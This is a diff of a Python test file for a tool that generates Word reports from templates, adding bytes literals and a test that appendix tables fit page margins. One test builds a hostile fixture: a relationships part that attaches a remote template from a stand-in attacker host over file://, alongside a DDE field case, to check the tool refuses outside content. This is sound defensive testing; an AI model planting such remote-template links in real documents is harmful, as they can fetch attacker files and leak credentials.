@@ -103,11 +103,11 @@ def with_member(template: bytes, name: str, body: bytes, rels: str | None = None
 
 
 def test_nothing_from_outside_a_remote_template_objects_or_dde_fields():
-    remote = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
-              'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
-              'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
-              'Target="file://attacker.example/share/t.dotm" TargetMode="External"/>'
-              '</Relationships>').encode()
+    remote = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
+              b'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.'
+              b'openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+              b'Target="file://attacker.example/share/t.dotm" TargetMode="External"/>'
+              b'</Relationships>')
     template = with_member(default_template(), "word/_rels/settings.xml.rels", remote)
     assert refused(template)[0][0] == "template_outside"
     dde = edited(default_template(), lambda xml: xml.replace(
@@ -134,3 +134,20 @@ def test_what_is_not_a_word_document_is_refused():
 def test_every_placeholder_is_documented_in_both_languages():
     for key, msg in PLACEHOLDERS.items():
         assert re.fullmatch(r"[a-z_]+", key) and msg.vi and msg.en
+
+
+def test_an_appendix_in_a_portrait_template_stays_within_its_margins():
+    """The appendix is laid out landscape; a province's portrait template gets tables as wide
+    as its own text, not wider."""
+    scores = build_demo_scores()
+    units = unit_table(scores)
+    report = reports.build("appendix", units, scores, views.View(year=2024, level="commune"))
+    doc = Document(io.BytesIO(reports.to_docx(report, reports.Letterhead(),
+                                              template=default_template())))
+    section = doc.sections[-1]
+    text_twips = (section.page_width - section.left_margin - section.right_margin) / 635
+    widths = [int(t._tbl.tblPr.find(
+        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}tblW").get(
+        "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}w"))
+        for t in doc.tables[1:-1]]
+    assert widths and max(widths) <= text_twips + 1
